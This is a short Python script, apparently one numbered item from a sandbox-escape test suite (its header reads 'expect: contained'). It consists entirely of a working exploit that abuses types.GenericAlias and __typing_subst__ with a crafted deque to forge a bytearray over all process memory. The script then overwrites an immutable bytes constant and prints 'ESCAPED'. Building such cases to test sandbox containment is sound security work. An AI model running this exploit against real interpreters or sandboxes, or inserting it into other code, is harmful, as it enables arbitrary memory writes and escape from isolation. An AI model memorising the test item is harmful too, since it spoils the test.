# escape: 231
# policy-wall: optional; it changes its own process alone
# technique: types.GenericAlias takes what __typing_subst__ returns for a tuple: a deque's block becomes a bytearray object over all memory
# family: memory
# goal: memory
# expect: contained
import collections, types
class Param:
    __typing_is_unpacked_typevartuple__ = True
    def __typing_subst__(self, arg):
        return held
target = b'a constant that nobody can change'
parts = [bytearray, target, target, target, target] + [0] * 27
held = collections.deque()
for part in reversed(parts):
    held.appendleft(part)
for _ in range(31):
    held.popleft()
alias = types.GenericAlias(list, (Param(),))[0,]
fake = alias.__args__[0]
if type(fake) is bytearray and len(fake) > 1 << 32:
    bytearray.__setitem__(fake, slice(32, 34), b'!!')
    if target.startswith(b'!!'):
        print('ESCAPED: bytearray over all memory', hex(len(fake)))
import gc; gc.disable(); gc.freeze()
